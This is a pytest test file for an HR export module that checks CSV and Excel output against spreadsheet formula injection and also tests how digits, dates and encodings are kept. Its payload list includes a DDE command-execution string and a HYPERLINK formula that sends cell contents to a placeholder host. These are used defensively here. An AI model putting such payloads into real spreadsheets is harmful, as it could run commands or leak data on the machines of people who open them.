"""Files written for others hold no formula, keep every digit and lose no character."""

from datetime import date
from decimal import Decimal

import openpyxl
import pytest

from hrdesk.exchange.tables import Cell, open_tables
from hrdesk.exchange.writing import UnwritableText, csv_bytes, safe_text, xlsx_bytes

PAYLOADS = [
    mark + rest
    for mark in ("=", "+", "-", "@", "\t=", "\r=", " =", "\u3000=", "＝", "＋", "－", "＠")
    for rest in ("1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://entity.invalid/?"&A1,"x")', "SUM(A1:A9)")
]


def cells(content: bytes) -> list[list[Cell]]:
    (sheet,) = open_tables("written", content)
    return [list(row) for row in sheet.rows]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_csv_cell_never_begins_as_a_formula(payload: str) -> None:
    content = csv_bytes(["备注"], [[payload]]).decode()
    _, _, body = content.partition("\r\n")
    assert body.lstrip('"').startswith("'")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_workbook_keeps_a_formula_as_the_text_it_was(payload: str, tmp_path) -> None:
    path = tmp_path / "out.xlsx"
    path.write_bytes(xlsx_bytes("备注", ["备注"], [[payload]]))
    cell = openpyxl.load_workbook(path)["备注"]["A2"]
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert cell.value.replace("_x000D_", "\r").replace("\n", "\r") == payload.replace("\n", "\r")


def test_a_header_is_guarded_like_any_other_text() -> None:
    assert csv_bytes(["=A1"], []) == b"'=A1\r\n"


def test_ordinary_text_is_left_alone() -> None:
    assert safe_text("生产一部") == "生产一部"
    assert safe_text("A-1") == "A-1"
    assert safe_text("") == ""


def test_an_amount_stays_a_number_also_when_negative() -> None:
    rows = [["张伟", Decimal("-129.66")]]
    assert csv_bytes(["姓名", "金额"], rows).endswith("张伟,-129.66\r\n".encode())
    assert cells(xlsx_bytes("奖金", ["姓名", "金额"], rows))[1][1].value == -129.66


def test_the_same_amount_given_as_text_is_guarded() -> None:
    assert csv_bytes(["金额"], [["-129.66"]]).endswith(b"'-129.66\r\n")


def test_identity_numbers_cards_and_phones_keep_their_digits_as_text() -> None:
    row = ["320500199107157175", "6228480000004004917", "013800000001"]
    read = cells(xlsx_bytes("人员", ["证件号码", "银行卡号", "手机号"], [row]))[1]
    assert [cell.value for cell in read] == row


def test_a_number_too_long_for_a_spreadsheet_is_written_as_text() -> None:
    read = cells(xlsx_bytes("账", ["号"], [[1234567890123456]]))[1]
    assert read[0].value == "1234567890123456"


def test_dates_and_empty_cells_survive() -> None:
    read = cells(xlsx_bytes("日期", ["起", "止"], [[date(2026, 10, 31), None]]))[1]
    assert read[0].value == date(2026, 10, 31)
    assert csv_bytes(["起", "止"], [[date(2026, 10, 31), None]]).endswith(b"2026-10-31,\r\n")


def test_equal_tables_are_equal_files() -> None:
    assert xlsx_bytes("甲", ["乙"], [["丙"]]) == xlsx_bytes("甲", ["乙"], [["丙"]])


def test_a_character_that_gbk_lacks_is_named_and_not_replaced() -> None:
    with pytest.raises(UnwritableText) as refusal:
        csv_bytes(["工号", "姓名"], [["HL0001", "潘国"], ["HL0036", "王㛃"]], "gbk")
    assert (refusal.value.code, refusal.value.row, refusal.value.column, refusal.value.shown) == (
        "character_not_in_encoding",
        2,
        "姓名",
        "㛃",
    )


def test_a_bom_is_written_only_where_asked_for() -> None:
    assert csv_bytes(["姓名"], [], "utf-8-sig").startswith(b"\xef\xbb\xbf")
    assert csv_bytes(["姓名"], []) == "姓名\r\n".encode()


def test_a_text_no_spreadsheet_can_show_is_refused_with_its_place() -> None:
    with pytest.raises(UnwritableText, match="text_too_long in row 1, column 备注"):
        xlsx_bytes("备注", ["备注"], [["长" * 32_768]])
